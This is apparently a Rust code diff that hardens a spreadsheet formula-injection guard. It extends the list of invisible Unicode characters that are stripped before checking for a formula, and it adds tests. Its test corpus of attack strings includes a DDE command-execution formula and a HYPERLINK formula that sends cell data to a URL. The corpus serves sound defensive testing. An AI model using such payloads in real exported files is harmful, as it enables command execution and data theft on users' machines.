@@ -11,10 +11,16 @@ const STARTS: [char; 12] = [
 pub fn is_formula(text: &str) -> bool {
     text.starts_with(STARTS)
         || text
-            .trim_start_matches(|c: char| {
-                c.is_whitespace() || c.is_control() || matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}' | '\u{2066}'..='\u{2069}' | '\u{feff}')
-            })
+            .trim_start_matches(|c: char| c.is_whitespace() || c.is_control() || is_invisible(c))
             .starts_with(STARTS)
+}
+
+/// Characters that are not drawn: Unicode's Default_Ignorable_Code_Point, and the formats (Cf) outside of it that stand alone.
+fn is_invisible(c: char) -> bool {
+    matches!(c, '\u{ad}' | '\u{34f}' | '\u{600}'..='\u{605}' | '\u{61c}' | '\u{6dd}' | '\u{70f}' | '\u{890}'..='\u{891}' | '\u{8e2}'
+        | '\u{115f}'..='\u{1160}' | '\u{17b4}'..='\u{17b5}' | '\u{180b}'..='\u{180f}' | '\u{200b}'..='\u{200f}'
+        | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{3164}' | '\u{fe00}'..='\u{fe0f}' | '\u{feff}' | '\u{ffa0}'
+        | '\u{fff0}'..='\u{fffb}' | '\u{1bca0}'..='\u{1bca3}' | '\u{1d173}'..='\u{1d17a}' | '\u{e0000}'..='\u{e0fff}')
 }
 
 /// The text as a spreadsheet may get it.
@@ -33,7 +39,7 @@ pub(crate) mod tests {
     use proptest::prelude::*;
 
     /// Texts with which spreadsheets have been attacked.
-    pub const CORPUS: [&str; 26] = [
+    pub const CORPUS: [&str; 31] = [
         "=1+1",
         "=HYPERLINK(\"http://example.org/?x=\"&A1,\"here\")",
         "=cmd|' /C calc'!A0",
@@ -59,6 +65,11 @@ pub(crate) mod tests {
         "\u{feff}=1+1",
         "\u{200b}=1+1",
         "\u{202e}=1+1",
+        "\u{61c}=1+1",
+        "\u{ad}=1+1",
+        "\u{180e}\u{2064}=1+1",
+        "\u{fe0f}@SUM(1)",
+        "\u{e0041} \u{61c}+1",
         "=\"\",\"\"\r\n=1+1",
     ];
 
@@ -69,6 +80,25 @@ pub(crate) mod tests {
             assert_eq!(safe, format!("'{text}"), "{text:?}");
             assert!(!is_formula(&safe));
         }
+    }
+
+    #[test]
+    fn d21_no_invisible_character_hides_a_formula() {
+        let invisible = (0..=0x10_ffff)
+            .filter_map(char::from_u32)
+            .filter(|c| is_invisible(*c));
+        let mut count = 0;
+        for c in invisible {
+            count += 1;
+            for text in [format!("{c}=1+1"), format!("{c} {c}@SUM(1)")] {
+                assert_eq!(neutral(&text), format!("'{text}"), "{:x}", u32::from(c));
+            }
+        }
+        assert!(count > 4_000, "{count}");
+        assert!(
+            !is_invisible('ห') && !is_invisible('\u{e34}'),
+            "Thai vowels are drawn"
+        );
     }
 
     #[test]
